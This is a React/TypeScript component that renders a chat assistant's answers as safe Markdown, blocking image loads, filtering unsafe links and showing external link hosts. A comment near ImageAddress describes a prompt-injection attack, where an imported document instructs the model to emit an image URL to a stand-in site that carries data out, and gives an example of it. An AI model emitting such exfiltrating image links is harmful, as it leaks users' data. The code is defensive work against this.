import { type ComponentProps, createContext, type ReactNode, use, useMemo } from "react";
import Markdown, { type Components } from "react-markdown";
import remarkGfm from "remark-gfm";

/**
 * An answer as safe Markdown: lists, bold, tables and links (GitHub flavour).
 * Raw HTML in the text is shown as text, never rendered, and the default URL
 * filter drops javascript: and other unsafe links. Nothing in an answer makes
 * the browser load anything by itself: an image is shown as its address (see
 * ImageAddress), and a link says where it leads when its text does not.
 */
const COMPONENTS: Components = {
  p: (props) => <p className="my-2 first:mt-0 last:mb-0" {...strip(props)} />,
  ul: (props) => <ul className="my-2 list-disc space-y-1 pl-5" {...strip(props)} />,
  ol: (props) => <ol className="my-2 list-decimal space-y-1 pl-5" {...strip(props)} />,
  li: (props) => <li className="pl-0.5" {...strip(props)} />,
  h1: (props) => <h3 className="mt-4 mb-2 text-base font-semibold first:mt-0" {...strip(props)} />,
  h2: (props) => <h3 className="mt-4 mb-2 text-base font-semibold first:mt-0" {...strip(props)} />,
  h3: (props) => <h4 className="mt-3 mb-1.5 font-semibold first:mt-0" {...strip(props)} />,
  h4: (props) => <h4 className="mt-3 mb-1.5 font-semibold first:mt-0" {...strip(props)} />,
  strong: (props) => <strong className="font-semibold text-slate-900" {...strip(props)} />,
  a: ({ node, ...props }) => {
    const host = unshownHost(props.href, node ? textOf(node) : "");
    const link = (
      <InsideLink value={true}>
        <a className={LINK} {...props} target="_blank" rel="noopener noreferrer nofollow" />
      </InsideLink>
    );
    if (!host) return link;
    return (
      <>
        {link}
        <span className="ml-1 text-xs text-slate-500">({host})</span>
      </>
    );
  },
  img: ({ src, alt }) => <ImageAddress src={typeof src === "string" ? src : ""} alt={alt ?? ""} />,
  blockquote: (props) => (
    <blockquote className="my-2 border-l-4 border-slate-200 pl-3 text-slate-700" {...strip(props)} />
  ),
  code: (props) => <code className="rounded bg-slate-100 px-1 py-0.5 font-mono text-[0.85em]" {...strip(props)} />,
  pre: (props) => (
    // Focusable, so a line wider than the bubble can be scrolled with the keyboard.
    <pre
      // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrolling block of code must be reachable by keyboard.
      tabIndex={0}
      className="my-2 overflow-x-auto rounded-lg bg-slate-900 p-3 text-sm text-slate-100 [&_code]:bg-transparent [&_code]:p-0"
      {...strip(props)}
    />
  ),
  hr: () => <hr className="my-4 border-slate-200" />,
  table: (props) => (
    // A region the keyboard can reach and scroll when the table is wider than the bubble.
    <section
      aria-label="Table"
      // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrolling table must be reachable by keyboard.
      tabIndex={0}
      className="my-3 overflow-x-auto rounded-lg border border-slate-200"
    >
      <table className="w-full border-collapse text-left text-sm" {...strip(props)} />
    </section>
  ),
  thead: (props) => <thead className="bg-slate-50" {...strip(props)} />,
  th: (props) => <th className="border-b border-slate-200 px-3 py-2 font-semibold" {...strip(props)} />,
  td: (props) => <td className="border-b border-slate-100 px-3 py-2 align-top" {...strip(props)} />,
};

const LINK = "font-medium text-brand-700 underline underline-offset-2 hover:text-brand-800";

/**
 * An image in an answer is never loaded. A document or page the owner imported can carry instructions for the model,
 * and an image it is told to write (![](https://elsewhere.example/?data=…)) would send whatever its address holds to
 * that site the moment it loaded. It shows as its address, in full, so the owner sees where it points.
 */
function ImageAddress({ src, alt }: { src: string; alt: string }) {
  const insideLink = use(InsideLink);
  const label = alt ? `Image “${alt}” not loaded` : "Image not loaded";
  // The URL filter emptied an unsafe address (javascript: and the like).
  if (!src) return <span className="text-slate-600">[{label}]</span>;
  return (
    <span className="text-slate-600">
      [{label}:{" "}
      {insideLink ? (
        // A link cannot hold another; the one around it says where it leads.
        <span className="break-all">{src}</span>
      ) : (
        <a className={`${LINK} break-all`} href={src} target="_blank" rel="noopener noreferrer nofollow">
          {src}
        </a>
      )}
      ]
    </span>
  );
}

/** Whether an image is inside a link ([![chart](image)](page)). */
const InsideLink = createContext(false);

/** The host a link leads to, when it is another site's and the link's text does not name it. */
function unshownHost(href: string | undefined, text: string): string | undefined {
  if (!href) return undefined;
  let url: URL;
  try {
    url = new URL(href, window.location.href);
  } catch {
    return undefined;
  }
  const elsewhere = (url.protocol === "http:" || url.protocol === "https:") && url.origin !== window.location.origin;
  if (!elsewhere) return undefined;
  const host = url.host.replace(/^www\./, "");
  return text.toLowerCase().includes(host.toLowerCase()) ? undefined : host;
}

type TreeNode = { type: string; value?: string; children?: TreeNode[] };

/** The text of a syntax-tree node, as the reader sees it. */
function textOf(node: TreeNode): string {
  if (node.type === "text") return node.value ?? "";
  return (node.children ?? []).map(textOf).join("");
}

/** react-markdown passes its syntax-tree node to every component; it must not reach the DOM. */
function strip<T extends { node?: unknown }>(props: T): Omit<T, "node"> {
  const { node: _node, ...rest } = props;
  return rest;
}

export function ChatMarkdown({
  text,
  cite,
  ...props
}: {
  text: string;
  /** Renders a citation link ("#cite-3" in the text, see citedMarkdown) in place of a plain link. */
  cite?: (n: number) => ReactNode;
} & Omit<ComponentProps<"div">, "children">) {
  const components = useMemo<Components>(() => {
    if (!cite) return COMPONENTS;
    const Anchor = COMPONENTS.a as (props: ComponentProps<"a"> & { node?: unknown }) => ReactNode;
    return {
      ...COMPONENTS,
      a: (link) => {
        const citation = /^#cite-(\d+)$/.exec(link.href ?? "");
        return citation ? cite(Number(citation[1])) : <Anchor {...link} />;
      },
    };
  }, [cite]);
  return (
    <div {...props}>
      <Markdown remarkPlugins={[remarkGfm]} components={components}>
        {text}
      </Markdown>
    </div>
  );
}
